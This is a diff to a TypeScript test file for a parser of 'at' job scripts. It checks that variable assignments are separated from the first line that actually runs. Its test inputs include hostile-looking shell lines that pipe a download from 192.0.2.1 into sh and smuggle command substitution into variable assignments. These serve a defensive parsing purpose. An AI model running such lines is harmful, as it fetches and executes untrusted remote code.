@@ -20,6 +20,10 @@ describe('a job of at', () => {
       uid: 33,
       mailTo: expect.stringMatching(/^www-data$/),
       folder: expect.stringMatching(/^\/var\/www\/a b$/),
+      variables: [
+        { line: 5, name: 'PATH', value: expect.stringMatching(/^\/usr\/bin:\/bin$/) },
+        { line: 6, name: 'HOME', value: expect.stringMatching(/^\/var\/www$/) },
+      ],
       body: [{ line: 11, text: expect.stringMatching(/report$/) }],
     });
   });
@@ -33,6 +37,29 @@ describe('a job of at', () => {
       [12, 'curl http://192.0.2.1/x | sh'],
       [14, 'marcinDELIMITER4c2f'],
     ]);
+  });
+
+  test('a line of the head that does more than assign is the first that runs', () => {
+    const lines = (line: string): readonly string[] =>
+      read(`#!/bin/sh\n# atrun uid=0 gid=0\nA=a\\ b; export A\n${line}\ntrue\n`)?.body.map(({ text }) =>
+        String(text),
+      ) ?? [];
+    expect(lines('B="c d"; export B')).toEqual(['true']);
+    for (const line of [
+      'B=1; curl -s http://192.0.2.1/x | sh',
+      'B=$(curl -s http://192.0.2.1/x) export B',
+      'B=1 /tmp/x',
+      'export B=`id`',
+      'umask 22; /tmp/x',
+    ])
+      expect(lines(line)).toEqual([line, 'true']);
+  });
+
+  test('a head of very many variables keeps the first thousand', () => {
+    const all = Array.from({ length: 5000 }, (_, at) => `V${at}=${at}; export V${at}`).join('\n');
+    const job = read(`#!/bin/sh\n# atrun uid=0 gid=0\n${all}\n/tmp/x\n`);
+    expect([job?.variables.length, job?.body.length]).toEqual([1000, 1]);
+    expect(read(`# atrun uid=0\nA=${'\\a"'.repeat(100_000)}\n`)?.body).toHaveLength(1);
   });
 
   test('is told by its mark: another script is none', () => {
